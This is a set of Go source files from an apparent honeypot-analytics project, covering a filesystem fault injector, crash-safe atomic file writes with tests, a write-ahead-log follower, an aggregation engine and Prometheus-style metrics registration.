	f, err := in.inner.OpenFile(name, flag, perm)
	if err != nil {
		return nil, err
	}
	return &injectorFile{in: in, f: f}, nil
}

// Rename is a mutating op; silenced renames leave both paths untouched.
func (in *Injector) Rename(oldpath, newpath string) error {
	d := in.decide(streamRename, in.plan.RenameErrRate, "rename", newpath, syscall.EIO)
	if d.silenced {
		return nil
	}
	if d.err != nil {
		return d.err
	}
	return in.inner.Rename(oldpath, newpath)
}

// Remove is a mutating op (no rate-based class of its own, but it
// advances the crash-point schedule and respects the Break gate).
func (in *Injector) Remove(name string) error {
	d := in.decide(0, 0, "remove", name, nil)
	if d.silenced {
		return nil
	}
	if d.err != nil {
		return d.err
	}
	return in.inner.Remove(name)
}

func (in *Injector) ReadDir(name string) ([]fs.DirEntry, error) { return in.inner.ReadDir(name) }
func (in *Injector) Stat(name string) (fs.FileInfo, error)      { return in.inner.Stat(name) }

// MkdirAll passes through: directory creation is idempotent setup the
// durability code performs before any data is at risk, and counting it
// would make crash schedules depend on whether a run created or reused
// its directory. The Break gate still applies (a full disk refuses new
// directories too).
func (in *Injector) MkdirAll(name string, perm fs.FileMode) error {
	in.mu.Lock()
	broken := in.broken
	in.mu.Unlock()
	if broken != nil {
		return &InjectedError{Op: "mkdir", Path: name, Err: broken}
	}
	return in.inner.MkdirAll(name, perm)
}

// injectorFile gates a real handle's mutating ops through the injector.
type injectorFile struct {
	in *Injector
	f  File
}

func (g *injectorFile) Read(p []byte) (int, error)                { return g.f.Read(p) }
func (g *injectorFile) ReadAt(p []byte, off int64) (int, error)   { return g.f.ReadAt(p, off) }
func (g *injectorFile) Seek(off int64, whence int) (int64, error) { return g.f.Seek(off, whence) }
func (g *injectorFile) Close() error                              { return g.f.Close() }
func (g *injectorFile) Name() string                              { return g.f.Name() }

func (g *injectorFile) Write(p []byte) (int, error) {
	d := g.in.decideWrite(g.f.Name(), len(p))
	if d.silenced {
		return len(p), nil
	}
	if d.err != nil {
		if d.shortLen >= 0 {
			n, werr := g.f.Write(p[:d.shortLen])
			if werr != nil {
				return n, werr
			}
			return n, d.err
		}
		return 0, d.err
	}
	return g.f.Write(p)
}

func (g *injectorFile) Sync() error {
	d := g.in.decide(streamSync, g.in.plan.SyncErrRate, "sync", g.f.Name(), syscall.EIO)
	if d.silenced {
		return nil
	}
	if d.err != nil {
		return d.err
	}
	return g.f.Sync()
}

func (g *injectorFile) Truncate(size int64) error {
	d := g.in.decide(0, 0, "truncate", g.f.Name(), nil)
	if d.silenced {
		return nil
	}
	if d.err != nil {
		return d.err
	}
	return g.f.Truncate(size)
}

// blackholeFile is the handle a silenced create returns: writes vanish,
// reads see an empty file — exactly what the disk holds for a file that
// was never created. Its ops do not advance the op schedule; a black
// hole only exists past the crash point, where every op is silenced
// whatever its index.
type blackholeFile struct {
	name string
	off  int64
}

func (b *blackholeFile) Read(p []byte) (int, error)              { return 0, io.EOF }
func (b *blackholeFile) ReadAt(p []byte, off int64) (int, error) { return 0, io.EOF }
func (b *blackholeFile) Close() error                            { return nil }
func (b *blackholeFile) Name() string                            { return b.name }
func (b *blackholeFile) Sync() error                             { return nil }
func (b *blackholeFile) Truncate(size int64) error               { return nil }

func (b *blackholeFile) Write(p []byte) (int, error) {
	b.off += int64(len(p))
	return len(p), nil
}

func (b *blackholeFile) Seek(off int64, whence int) (int64, error) {
	switch whence {
	case io.SeekStart:
		b.off = off
	case io.SeekCurrent:
		b.off += off
	case io.SeekEnd:
		b.off = off
	}
	return b.off, nil
}
