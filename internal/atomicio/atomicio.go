// Package atomicio provides crash-safe whole-file writes: content goes
// to a temporary file in the destination directory, is fsynced, and is
// renamed into place. A reader therefore sees either the old file or
// the complete new one — never a half-written report or dataset, which
// is the failure mode a SIGKILL mid-write leaves behind with a plain
// os.Create.
package atomicio

import (
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
)

// WriteFile atomically replaces path with the bytes produced by write.
// The temporary file is <path>.tmp in the same directory (same
// filesystem, so the rename is atomic); it is removed on any failure.
// After the rename the directory is fsynced best-effort so the new
// entry itself survives a crash.
func WriteFile(path string, write func(w io.Writer) error) error {
	tmp := path + ".tmp"
	f, err := os.OpenFile(tmp, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o644)
	if err != nil {
		return fmt.Errorf("atomicio: creating %s: %w", tmp, err)
	}
	if err := write(f); err != nil {
		return abandon(err, f, tmp)
	}
	if err := f.Sync(); err != nil {
		return abandon(fmt.Errorf("atomicio: syncing %s: %w", tmp, err), f, tmp)
	}
	if err := f.Close(); err != nil {
		return abandon(fmt.Errorf("atomicio: closing %s: %w", tmp, err), nil, tmp)
	}
	if err := os.Rename(tmp, path); err != nil {
		return abandon(fmt.Errorf("atomicio: renaming into place: %w", err), nil, tmp)
	}
	syncDir(filepath.Dir(path))
	return nil
}

// abandon cleans up the temporary file on a failure path: closing f
// (when still open) and removing tmp. The primary error is returned
// unchanged when cleanup succeeds; a failed removal is joined onto it
// so a stranded .tmp is never silent.
func abandon(primary error, f *os.File, tmp string) error {
	if f != nil {
		f.Close()
	}
	if rerr := os.Remove(tmp); rerr != nil && !os.IsNotExist(rerr) {
		return errors.Join(primary, fmt.Errorf("atomicio: removing %s: %w", tmp, rerr))
	}
	return primary
}

// WriteFileBytes is WriteFile for ready-made content.
func WriteFileBytes(path string, data []byte) error {
	return WriteFile(path, func(w io.Writer) error {
		_, err := w.Write(data)
		return err
	})
}

// syncDir fsyncs a directory so a just-renamed entry is durable. The
// sync is best-effort by design: some filesystems refuse directory
// fsync, and the rename itself already happened, so a refusal must not
// fail the write that triggered it.
func syncDir(dir string) {
	d, err := os.Open(dir)
	if err != nil {
		return
	}
	if err := d.Sync(); err != nil {
		// Refused directory fsync (see above); nothing to recover.
	}
	d.Close()
}
