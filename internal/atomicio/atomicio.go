// Package atomicio provides crash-safe whole-file writes: content goes
// to a temporary file in the destination directory, is fsynced, and is
// renamed into place. A reader therefore sees either the old file or
// the complete new one — never a half-written report or dataset, which
// is the failure mode a SIGKILL mid-write leaves behind with a plain
// os.Create.
//
// All I/O goes through an iofault.FS, so the tmp+fsync+rename sequence
// can be crash- and fault-tested at every syscall boundary; WriteFile
// and WriteFileBytes default to the real filesystem. A crash between
// Close and Rename strands <path>.tmp — StaleTmp lists such orphans and
// SweepTmp removes them (wal.Open sweeps its directory on every open).
package atomicio

import (
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"honeyfarm/internal/iofault"
)

// tmpSuffix is the temporary-file suffix the write path uses and the
// sweep helpers look for.
const tmpSuffix = ".tmp"

// WriteFile atomically replaces path with the bytes produced by write,
// on the real filesystem.
func WriteFile(path string, write func(w io.Writer) error) error {
	return WriteFileFS(iofault.OS, path, write)
}

// WriteFileFS atomically replaces path with the bytes produced by
// write, performing all I/O through fsys. The temporary file is
// <path>.tmp in the same directory (same filesystem, so the rename is
// atomic); it is removed on any failure. After the rename the directory
// is fsynced best-effort so the new entry itself survives a crash.
func WriteFileFS(fsys iofault.FS, path string, write func(w io.Writer) error) error {
	tmp := path + tmpSuffix
	f, err := fsys.OpenFile(tmp, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o644)
	if err != nil {
		return fmt.Errorf("atomicio: creating %s: %w", tmp, err)
	}
	if err := write(f); err != nil {
		return abandon(fsys, err, f, tmp)
	}
	if err := f.Sync(); err != nil {
		return abandon(fsys, fmt.Errorf("atomicio: syncing %s: %w", tmp, err), f, tmp)
	}
	if err := f.Close(); err != nil {
		return abandon(fsys, fmt.Errorf("atomicio: closing %s: %w", tmp, err), nil, tmp)
	}
	if err := fsys.Rename(tmp, path); err != nil {
		return abandon(fsys, fmt.Errorf("atomicio: renaming into place: %w", err), nil, tmp)
	}
	syncDir(fsys, filepath.Dir(path))
	return nil
}

// abandon cleans up the temporary file on a failure path: closing f
// (when still open) and removing tmp. The primary error is returned
// unchanged when cleanup succeeds; a failed removal is joined onto it
// so a stranded .tmp is never silent.
func abandon(fsys iofault.FS, primary error, f iofault.File, tmp string) error {
	if f != nil {
		f.Close()
	}
	if rerr := fsys.Remove(tmp); rerr != nil && !errors.Is(rerr, os.ErrNotExist) {
		return errors.Join(primary, fmt.Errorf("atomicio: removing %s: %w", tmp, rerr))
	}
	return primary
}

// WriteFileBytes is WriteFile for ready-made content.
func WriteFileBytes(path string, data []byte) error {
	return WriteFileBytesFS(iofault.OS, path, data)
}

// WriteFileBytesFS is WriteFileFS for ready-made content.
func WriteFileBytesFS(fsys iofault.FS, path string, data []byte) error {
	return WriteFileFS(fsys, path, func(w io.Writer) error {
		_, err := w.Write(data)
		return err
	})
}

// StaleTmp lists the *.tmp entries in dir, sorted by name — the orphans
// a crash between Close and Rename leaves behind. Every .tmp in a
// directory owned by this package's write discipline is garbage: a
// write in progress has the file open, and there is no open writer
// across a crash.
func StaleTmp(fsys iofault.FS, dir string) ([]string, error) {
	entries, err := fsys.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var names []string
	for _, e := range entries {
		if !e.IsDir() && strings.HasSuffix(e.Name(), tmpSuffix) {
			names = append(names, e.Name())
		}
	}
	sort.Strings(names)
	return names, nil
}

// SweepTmp removes the *.tmp orphans in dir and returns the names it
// removed. Only safe under the single-writer assumption the WAL already
// makes: no concurrent WriteFileFS may be mid-flight in dir.
func SweepTmp(fsys iofault.FS, dir string) ([]string, error) {
	names, err := StaleTmp(fsys, dir)
	if err != nil {
		return nil, err
	}
	for _, name := range names {
		if err := fsys.Remove(filepath.Join(dir, name)); err != nil {
			return nil, fmt.Errorf("atomicio: sweeping %s: %w", name, err)
		}
	}
	return names, nil
}

// syncDir fsyncs a directory so a just-renamed entry is durable. The
// sync is best-effort by design: some filesystems refuse directory
// fsync, and the rename itself already happened, so a refusal must not
// fail the write that triggered it.
func syncDir(fsys iofault.FS, dir string) {
	d, err := fsys.OpenFile(dir, os.O_RDONLY, 0)
	if err != nil {
		return
	}
	if err := d.Sync(); err != nil {
		// Refused directory fsync (see above); nothing to recover.
	}
	d.Close()
}
