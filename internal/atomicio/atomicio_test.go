package atomicio

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"testing"
)

func TestWriteFileReplaces(t *testing.T) {
	path := filepath.Join(t.TempDir(), "out.txt")
	if err := WriteFileBytes(path, []byte("first")); err != nil {
		t.Fatal(err)
	}
	if err := WriteFileBytes(path, []byte("second")); err != nil {
		t.Fatal(err)
	}
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "second" {
		t.Fatalf("read %q, want %q", got, "second")
	}
	if _, err := os.Stat(path + ".tmp"); !os.IsNotExist(err) {
		t.Fatalf("temporary file left behind: %v", err)
	}
}

func TestWriteFileFailureKeepsOld(t *testing.T) {
	path := filepath.Join(t.TempDir(), "out.txt")
	if err := WriteFileBytes(path, []byte("intact")); err != nil {
		t.Fatal(err)
	}
	wantErr := fmt.Errorf("writer exploded")
	err := WriteFile(path, func(w io.Writer) error {
		if _, err := w.Write([]byte("partial garbage")); err != nil {
			return err
		}
		return wantErr
	})
	if err != wantErr {
		t.Fatalf("WriteFile error = %v, want %v", err, wantErr)
	}
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "intact" {
		t.Fatalf("failed write damaged the destination: %q", got)
	}
	if _, err := os.Stat(path + ".tmp"); !os.IsNotExist(err) {
		t.Fatalf("temporary file left behind after failure: %v", err)
	}
}
