package query

import (
	"fmt"
	"sync"
	"time"

	"honeyfarm/internal/wal"
)

// Follower tails a WAL directory into an Engine: the durable batches
// already on disk first (sealed segments, then the active segment's
// intact prefix), then whatever the writer appends while the follower
// runs. It is the serving path for a farm in another process — cmd/
// reproduce writes its checkpoint WAL, cmd/serve follows it live.
//
// After every drain cycle that made progress the follower seals a
// snapshot, so the published view always corresponds to a durable
// prefix of the log. A corruption error from the iterator is terminal:
// the follower records it, keeps the last good snapshot published, and
// stops advancing.
type Follower struct {
	engine *Engine
	it     *wal.Iterator
	poll   time.Duration

	done    chan struct{}
	stopped chan struct{}

	mu  sync.Mutex
	err error
}

// maxBatchesPerDrain caps one drain cycle; a longer backlog is simply
// drained over consecutive cycles.
const maxBatchesPerDrain = 1 << 16

// NewFollower creates a follower that feeds engine from the WAL in
// dir, polling every poll (default 200ms) once caught up. The engine's
// epoch must match the WAL's; a mismatch is reported as a follower
// error on the first drained meta frame.
func NewFollower(engine *Engine, dir string, poll time.Duration) (*Follower, error) {
	it, err := wal.NewIterator(dir)
	if err != nil {
		return nil, err
	}
	if poll <= 0 {
		poll = 200 * time.Millisecond
	}
	return &Follower{
		engine:  engine,
		it:      it,
		poll:    poll,
		done:    make(chan struct{}),
		stopped: make(chan struct{}),
	}, nil
}

// Start launches the tail loop. Call Stop exactly once afterwards.
func (f *Follower) Start() {
	go f.run()
}

// Stop signals the loop, waits for it to exit, closes the iterator,
// and returns the first error the follower hit (nil for a clean tail).
func (f *Follower) Stop() error {
	close(f.done)
	<-f.stopped
	f.it.Close()
	return f.Err()
}

// Err returns the first terminal error, or nil.
func (f *Follower) Err() error {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.err
}

// Position returns the iterator's cursor (segment sequence and byte
// offset) for observability.
func (f *Follower) Position() (seq uint64, off int64) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.it.Pos()
}

// WALGaps returns the degraded-mode outage records the tail has crossed
// so far, in log order — the read side's view of what a degraded writer
// counted and dropped. The serving layer folds these into /v1/healthz.
func (f *Follower) WALGaps() []wal.Gap {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.it.Gaps()
}

// run is the tail loop: drain, seal on progress, pause, repeat — until
// Stop or a terminal error.
func (f *Follower) run() {
	defer close(f.stopped)
	timer := time.NewTimer(f.poll)
	defer timer.Stop()
	for running := true; running; {
		progressed, err := f.drain()
		if err != nil {
			f.mu.Lock()
			f.err = err
			f.mu.Unlock()
			// Terminal: keep the last good snapshot published, wait for Stop.
			<-f.done
			return
		}
		if progressed {
			f.engine.Seal()
		}
		if !timer.Stop() {
			select {
			case <-timer.C:
			default:
			}
		}
		timer.Reset(f.poll)
		select {
		case <-f.done:
			running = false
		case <-timer.C:
		}
	}
}

// drain ingests every batch available right now, stopping when the
// iterator reports caught-up (or the cycle cap is hit).
func (f *Follower) drain() (progressed bool, err error) {
	for i := 0; i < maxBatchesPerDrain; i++ {
		b, ok, err := f.next()
		if err != nil {
			return progressed, err
		}
		if !ok {
			return progressed, nil
		}
		f.engine.Ingest(b.Records)
		progressed = true
	}
	return progressed, nil
}

// next pulls one batch under the mutex (Position reads the iterator
// concurrently) and checks the epoch contract once it is established.
func (f *Follower) next() (wal.Batch, bool, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	b, ok, err := f.it.Next()
	if err != nil || !ok {
		return b, ok, err
	}
	if epoch, known := f.it.Epoch(); known && !epoch.Equal(f.engine.Epoch()) {
		return wal.Batch{}, false, fmt.Errorf("query: WAL epoch %s does not match engine epoch %s", epoch, f.engine.Epoch())
	}
	return b, true, nil
}
