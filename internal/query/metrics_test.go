package query_test

// Golden and determinism tests over the cmd/serve metric surface:
// BuildServeRegistry is exactly what the binary mounts at /metrics, so
// the golden here pins the exposition names, help strings, and the
// values produced by the deterministic fixture dataset.

import (
	"io"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"honeyfarm"
	"honeyfarm/internal/analysis"
	"honeyfarm/internal/malware"
	"honeyfarm/internal/query"
	"honeyfarm/internal/wal"
)

// metricsEngine builds the deterministic fixture engine the goldens
// render from (same dataset as the endpoint goldens).
func metricsEngine(t *testing.T) *query.Engine {
	t.Helper()
	const numPots = 4
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed: 21, TotalSessions: 80, Days: 6, NumPots: numPots,
	})
	if err != nil {
		t.Fatal(err)
	}
	eng := query.New(query.Config{
		Epoch: honeyfarm.DefaultEpoch, NumPots: numPots,
		Registry: d.Registry, Tagger: analysis.Tagger(malware.NewTagger(nil)),
	})
	eng.Ingest(d.Store.Records())
	eng.Seal()
	return eng
}

func TestServeMetricsGolden(t *testing.T) {
	eng := metricsEngine(t)
	srv := query.NewServer(query.ServerConfig{Source: eng})
	reg := query.BuildServeRegistry(eng, nil, srv, 4)
	got := reg.Render()

	golden := filepath.Join("testdata", "metrics.golden.txt")
	if *updateGolden {
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("missing golden (run go test ./internal/query -update): %v", err)
	}
	if string(got) != string(want) {
		t.Fatalf("/metrics exposition changed\ngot:\n%s\nwant:\n%s", got, want)
	}
}

// TestServeMetricsDeterministic proves the exposition is a pure
// function of the observed events: two registries over two identically
// fed engines render byte-identically, repeatedly.
func TestServeMetricsDeterministic(t *testing.T) {
	r1 := query.BuildServeRegistry(metricsEngine(t), nil, query.NewServer(query.ServerConfig{}), 4)
	r2 := query.BuildServeRegistry(metricsEngine(t), nil, query.NewServer(query.ServerConfig{}), 4)
	a, b := r1.Render(), r2.Render()
	if string(a) != string(b) {
		t.Fatal("identical event streams rendered differently")
	}
	if string(r1.Render()) != string(a) {
		t.Fatal("re-render changed the output")
	}
}

// TestServeMetricsEndpoint mounts the registry the way cmd/serve does
// and checks the wire behavior plus the WAL-health rows a collector
// adds.
func TestServeMetricsEndpoint(t *testing.T) {
	eng := metricsEngine(t)
	srv := query.NewServer(query.ServerConfig{Source: eng})
	reg := query.BuildServeRegistry(eng, nil, srv, 4)
	query.RegisterWALHealthMetrics(reg, func() wal.Health {
		return wal.Health{Appends: 3, AppendedRecords: int(eng.Seq()), Fsyncs: 5}
	})
	ms := httptest.NewServer(reg.Handler())
	defer ms.Close()

	resp, err := ms.Client().Get(ms.URL)
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != 200 {
		t.Fatalf("GET /metrics = %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain; version=0.0.4") {
		t.Fatalf("Content-Type = %q", ct)
	}
	seq := strconv.FormatUint(eng.Seq(), 10)
	for _, want := range []string{
		"honeyfarm_ingested_records_total " + seq + "\n",
		"honeyfarm_snapshot_seq " + seq + "\n",
		"honeyfarm_seal_lag_records 0\n",
		"honeyfarm_wal_append_records_total " + seq + "\n",
		"honeyfarm_wal_fsyncs_total 5\n",
	} {
		if !strings.Contains(string(body), want) {
			t.Errorf("missing %q in exposition", want)
		}
	}
}
