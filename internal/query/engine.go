// Package query is the honeyfarm's incremental aggregation engine: the
// live counterpart of internal/analysis. The paper's operators watched
// a farm that collected ~860k sessions a day for 15 months; waiting for
// a batch re-scan of the full dataset to answer "what is happening
// right now" does not survive contact with that volume. This engine
// folds session-record batches into the same mergeable partial
// aggregates the batch pipeline uses (analysis.CategoryAccum and
// friends) and periodically seals them into immutable snapshots.
//
// Snapshot isolation is the core contract: a sealed Snapshot is a
// consistent view of exactly the first Seq records of the ingest
// stream, readers always see a fully materialized snapshot (never a
// half-updated aggregate), and ingest never blocks a reader — the
// current snapshot is published through an atomic pointer and old
// snapshots stay valid for as long as anyone holds them.
//
// Equivalence is the correctness anchor: because ingest folds the very
// accumulators the batch functions fold, and Seal calls the very
// Finalize methods they call, a snapshot at sequence N is
// byte-identical (after JSON encoding) to running internal/analysis
// over the first N records — at any ingest batching and any snapshot
// cadence. TestSnapshotEquivalence pins this.
package query

import (
	"sync"
	"sync/atomic"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/faults"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/store"
	"honeyfarm/internal/wire"
)

// Config parameterizes an Engine.
type Config struct {
	// Epoch anchors day bucketing; it is normalized exactly as a Store
	// normalizes its epoch, so both sides bucket identically.
	Epoch time.Time
	// NumPots sizes the per-honeypot and availability tables; records
	// with IDs outside [0, NumPots) are ignored by those tables (the
	// batch pipeline's rule).
	NumPots int
	// Registry resolves client IPs to countries. Nil disables the
	// country table (snapshots carry an empty one).
	Registry *geo.Registry
	// Tagger labels file hashes; nil tags everything "unknown".
	Tagger analysis.Tagger
	// Faults, when non-nil, joins the fault plan's loss accounting into
	// the availability table, mirroring Dataset.Availability.
	Faults *faults.Report
	// SnapshotEvery automatically seals a snapshot once at least this
	// many records have been ingested since the previous seal (checked
	// at batch granularity). Zero disables auto-sealing; Seal still
	// works.
	SnapshotEvery int
}

// Snapshot is one immutable epoch-sealed view of the ingest stream's
// first Seq records. Every field is a finalized aggregate; nothing in
// a published snapshot is ever mutated again.
type Snapshot struct {
	// Seq is the number of records folded in — the stream prefix this
	// snapshot covers.
	Seq uint64
	// Days is one past the highest day bucket seen (store.NumDays).
	Days int
	// Summary is Table 1 over the prefix.
	Summary analysis.CategoryShares
	// Pots is the per-honeypot table, indexed by honeypot ID.
	Pots []analysis.PerHoneypot
	// Clients is the per-client-IP table, sorted by IP.
	Clients []analysis.ClientStat
	// Countries is the unique-clients-per-country table, descending.
	Countries []analysis.CountryCount
	// Hashes is the per-file-hash table, sorted by hash.
	Hashes []analysis.HashStat
	// Availability joins Pots with the fault report's loss counters.
	Availability []analysis.PotAvailability
}

// Engine folds session records into mergeable partials and publishes
// snapshots. Ingest and Seal serialize on an internal mutex; Snapshot
// is wait-free and safe from any goroutine.
type Engine struct {
	cfg   Config
	epoch time.Time

	mu        sync.Mutex // serializes ingest and seal
	seq       uint64
	maxDay    int
	sinceSeal int
	parts     *analysis.Partials
	seals     atomic.Uint64 // snapshots sealed (including the empty one)

	cur atomic.Pointer[Snapshot]
}

// New creates an engine and publishes its empty snapshot (sequence 0),
// so readers never observe a nil view.
func New(cfg Config) *Engine {
	e := &Engine{
		cfg:    cfg,
		epoch:  store.NormalizeEpoch(cfg.Epoch),
		maxDay: -1,
		parts:  analysis.NewPartials(cfg.NumPots, cfg.Registry, cfg.Registry != nil),
	}
	e.mu.Lock()
	e.sealLocked()
	e.mu.Unlock()
	return e
}

// Epoch returns the engine's normalized day-bucketing epoch.
func (e *Engine) Epoch() time.Time { return e.epoch }

// Ingest folds one batch of records into the partial aggregates, in
// stream order. It satisfies the store tee signature, so an engine can
// be attached to a live collector with Store.SetTee(engine.Ingest).
// Records must not be mutated afterwards.
func (e *Engine) Ingest(recs []*honeypot.SessionRecord) {
	if len(recs) == 0 {
		return
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, r := range recs {
		day := store.DayOf(e.epoch, r.Start)
		if day > e.maxDay {
			e.maxDay = day
		}
		e.parts.Add(r, day)
	}
	e.seq += uint64(len(recs))
	e.sinceSeal += len(recs)
	if e.cfg.SnapshotEvery > 0 && e.sinceSeal >= e.cfg.SnapshotEvery {
		e.sealLocked()
	}
}

// Seal materializes the current aggregates into an immutable snapshot,
// publishes it, and returns it. Sealing at an unchanged sequence
// republishes an equivalent snapshot (readers cannot tell).
func (e *Engine) Seal() *Snapshot {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.sealLocked()
}

// sealLocked materializes and publishes under e.mu. The Finalize calls
// copy everything out of the accumulators, so the snapshot stays
// immutable while ingest keeps folding into them.
func (e *Engine) sealLocked() *Snapshot {
	snap := MaterializeSnapshot(e.parts, e.seq, e.maxDay+1, e.cfg.Tagger, e.cfg.Faults)
	e.sinceSeal = 0
	e.cur.Store(snap)
	e.seals.Add(1)
	return snap
}

// MaterializeSnapshot finalizes a partial-aggregate bundle into an
// immutable snapshot covering seq records over days day buckets. It is
// THE materialization path: the engine's seal calls it for single-node
// snapshots and the distributed merge coordinator calls it over merged
// shard bundles, so the two can never disagree about how accumulators
// become tables. The Finalize calls copy everything out of the bundle;
// the snapshot stays immutable while callers keep folding into it.
func MaterializeSnapshot(p *analysis.Partials, seq uint64, days int, tagger analysis.Tagger, rep *faults.Report) *Snapshot {
	snap := &Snapshot{
		Seq:     seq,
		Days:    days,
		Summary: p.Cats.Finalize(),
		Pots:    p.Pots.Finalize(),
		Clients: p.Clients.Finalize(),
		Hashes:  p.Hashes.Finalize(tagger),
	}
	if p.Countries != nil {
		snap.Countries = p.Countries.Finalize()
	}
	availDays := days
	if rep != nil && rep.Days > 0 {
		availDays = rep.Days
	}
	snap.Availability = analysis.AvailabilityFromPer(snap.Pots, rep, availDays)
	return snap
}

// EncodePartials appends the engine's complete accumulator state to b
// in the analysis wire layout and returns the exact ingest sequence and
// day span the encoding covers. It runs under the ingest mutex, so the
// triple is a consistent cut of the stream: decoding the bytes yields a
// bundle equal to folding exactly the first seq records. This is what a
// shard collector serves to the merge coordinator.
func (e *Engine) EncodePartials(b *wire.Builder) (seq uint64, days int) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.parts.Encode(b)
	return e.seq, e.maxDay + 1
}

// Snapshot returns the most recently sealed snapshot. It never blocks
// and never returns nil.
func (e *Engine) Snapshot() *Snapshot {
	return e.cur.Load()
}

// Seq returns the number of records ingested so far (which may be
// ahead of the published snapshot's Seq until the next seal).
func (e *Engine) Seq() uint64 {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.seq
}

// Seals returns the number of snapshots sealed over the engine's
// lifetime, including the empty snapshot New publishes — the
// snapshot-seal counter of the /metrics plane.
func (e *Engine) Seals() uint64 {
	return e.seals.Load()
}
