package query

// The /metrics side of the serving layer: registration helpers that
// export an engine/follower/server triple into a metrics.Registry.
// Each helper is separately callable because the three node shapes
// mount different subsets — cmd/serve has a follower, cmd/shard has
// the WAL writer in-process, cmd/merge has neither — while the metric
// names stay identical across the fleet. All values are read through
// funcs at scrape time, so registration costs nothing on the ingest or
// serve hot paths.

import (
	"strconv"

	"honeyfarm/internal/metrics"
	"honeyfarm/internal/wal"
)

// RegisterSourceMetrics exports the snapshot-source rows every node
// shares: ingested sequence, published snapshot sequence/days, seal
// lag, and the per-pot session gauges (one child per pot, read from
// the published snapshot at scrape time).
func RegisterSourceMetrics(reg *metrics.Registry, src Source, numPots int) {
	reg.CounterFunc("honeyfarm_ingested_records_total",
		"Records folded into the aggregation engine (the engine sequence).",
		nil, func() float64 { return float64(src.Seq()) })
	reg.GaugeFunc("honeyfarm_snapshot_seq",
		"Sequence of the published (sealed) snapshot.",
		nil, func() float64 { return float64(src.Snapshot().Seq) })
	reg.GaugeFunc("honeyfarm_snapshot_days",
		"Day buckets covered by the published snapshot.",
		nil, func() float64 { return float64(src.Snapshot().Days) })
	reg.GaugeFunc("honeyfarm_seal_lag_records",
		"Records ingested but not yet sealed into the published snapshot.",
		nil, func() float64 { return float64(src.Seq() - src.Snapshot().Seq) })
	for i := 0; i < numPots; i++ {
		pot := i
		reg.GaugeFunc("honeyfarm_pot_sessions",
			"Sessions attributed to the pot in the published snapshot.",
			metrics.Labels{"pot": strconv.Itoa(pot)}, func() float64 {
				snap := src.Snapshot()
				if pot >= len(snap.Pots) {
					return 0
				}
				return float64(snap.Pots[pot].Sessions)
			})
	}
}

// RegisterEngineMetrics exports the engine-only rows (the seal
// counter) — call alongside RegisterSourceMetrics when the source is a
// local Engine.
func RegisterEngineMetrics(reg *metrics.Registry, eng *Engine) {
	reg.CounterFunc("honeyfarm_snapshot_seals_total",
		"Snapshots sealed over the engine lifetime.",
		nil, func() float64 { return float64(eng.Seals()) })
}

// RegisterFollowerMetrics exports the WAL tail position and gap losses
// of a follower-fed node (cmd/serve).
func RegisterFollowerMetrics(reg *metrics.Registry, f *Follower) {
	reg.GaugeFunc("honeyfarm_wal_segment",
		"WAL segment the follower tail has reached.",
		nil, func() float64 { seg, _ := f.Position(); return float64(seg) })
	reg.GaugeFunc("honeyfarm_wal_offset_bytes",
		"Byte offset of the follower tail within its segment.",
		nil, func() float64 { _, off := f.Position(); return float64(off) })
	reg.CounterFunc("honeyfarm_wal_gap_records_total",
		"Records lost to degraded-writer outages, from the gap frames the tail crossed.",
		nil, func() float64 {
			n := 0
			for _, g := range f.WALGaps() {
				n += g.Records
			}
			return float64(n)
		})
	reg.GaugeFunc("honeyfarm_follower_degraded",
		"1 once the follower hit a terminal tail error, else 0.",
		nil, func() float64 {
			if f.Err() != nil {
				return 1
			}
			return 0
		})
}

// RegisterWALHealthMetrics exports the in-process WAL writer's
// append/fsync/drop accounting (cmd/shard, or any node owning the
// writer).
func RegisterWALHealthMetrics(reg *metrics.Registry, health func() wal.Health) {
	reg.CounterFunc("honeyfarm_wal_append_batches_total",
		"Batch frames appended to the WAL.",
		nil, func() float64 { return float64(health().Appends) })
	reg.CounterFunc("honeyfarm_wal_append_records_total",
		"Records appended to the WAL.",
		nil, func() float64 { return float64(health().AppendedRecords) })
	reg.CounterFunc("honeyfarm_wal_fsyncs_total",
		"Successful segment fsyncs (group commits, explicit Syncs, seals).",
		nil, func() float64 { return float64(health().Fsyncs) })
	reg.CounterFunc("honeyfarm_wal_dropped_batches_total",
		"Batches refused while the writer was degraded.",
		nil, func() float64 { return float64(health().DroppedBatches) })
	reg.CounterFunc("honeyfarm_wal_dropped_records_total",
		"Records refused while the writer was degraded.",
		nil, func() float64 { return float64(health().DroppedRecords) })
	reg.CounterFunc("honeyfarm_wal_outages_total",
		"Entries into WAL degraded mode.",
		nil, func() float64 { return float64(health().Outages) })
	reg.CounterFunc("honeyfarm_wal_recoveries_total",
		"Successful recovery probes out of WAL degraded mode.",
		nil, func() float64 { return float64(health().Recoveries) })
	reg.GaugeFunc("honeyfarm_wal_degraded",
		"1 while the WAL writer is refusing appends, else 0.",
		nil, func() float64 {
			if health().Degraded {
				return 1
			}
			return 0
		})
}

// RegisterServeMetrics exports the HTTP serving layer's cache and
// load-shedding counters.
